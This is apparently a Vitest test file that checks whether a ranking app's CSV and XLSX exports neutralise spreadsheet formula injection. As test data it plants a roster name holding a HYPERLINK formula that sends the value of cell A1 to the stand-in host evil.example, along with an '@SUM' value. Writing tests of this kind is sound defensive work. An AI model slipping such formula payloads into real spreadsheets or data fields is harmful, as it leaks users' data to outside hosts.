import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { nuiThanh2023 } from '@thidua/scoring';
import { campaignFromJson } from '../src/server/campaign-source.js';
import { nuiThanhRoster } from '../src/demo/roster.js';
import { api, auth, csvHeaders, startApp, statisticsCsv, statsFor, tempDb } from './helpers.js';

const E = (path: string) => api('evil', path);

/** A roster name written to trigger a spreadsheet formula must come out as inert text. */
const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const evilRoster = nuiThanhRoster.map((u) => (u.id === 'tam-xuan-1' ? { ...u, name: evilName } : u.id === 'tam-tien' ? { ...u, name: '@SUM(1+1)' } : u));

describe('exports neutralise formula injection', () => {
  const db = tempDb();
  let app: FastifyInstance;
  beforeAll(async () => {
    app = await startApp({ dbPath: db.dbPath, campaign: { kind: 'file', ...campaignFromJson({ id: 'evil', ruleSet: nuiThanh2023, roster: evilRoster }) } });
    const res = await app.inject({
      method: 'POST',
      url: E('admin/snapshots?asOf=2023-12-31'),
      headers: { ...auth, ...csvHeaders },
      payload: Buffer.from(statisticsCsv(statsFor(evilRoster, 7))),
    });
    expect(res.statusCode, res.body).toBe(201);
  });
  afterAll(async () => {
    await app.close();
    db.cleanup();
  });

  it('CSV cells never begin with = + - @', async () => {
    for (const url of [E('export/ranking.csv'), E('export/awards.csv'), E('template.csv')]) {
      const body = (await app.inject(url)).body.replace(/^\uFEFF/, '');
      const cells = body.split(/\r?\n/).flatMap((line) => line.split(',')).map((c) => c.replace(/^"/, ''));
      expect(cells.filter((c) => /^[=+@]/.test(c)), url).toEqual([]);
      if (!url.includes('awards')) expect(body).toContain(`"'${evilName.replaceAll('"', '""')}"`);
    }
  });

  it('XLSX cells hold the name as text, not as a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await app.inject(E('export/ranking.xlsx'))).rawPayload as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0]?.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(values).toContain(`'${evilName}`);
  });
});
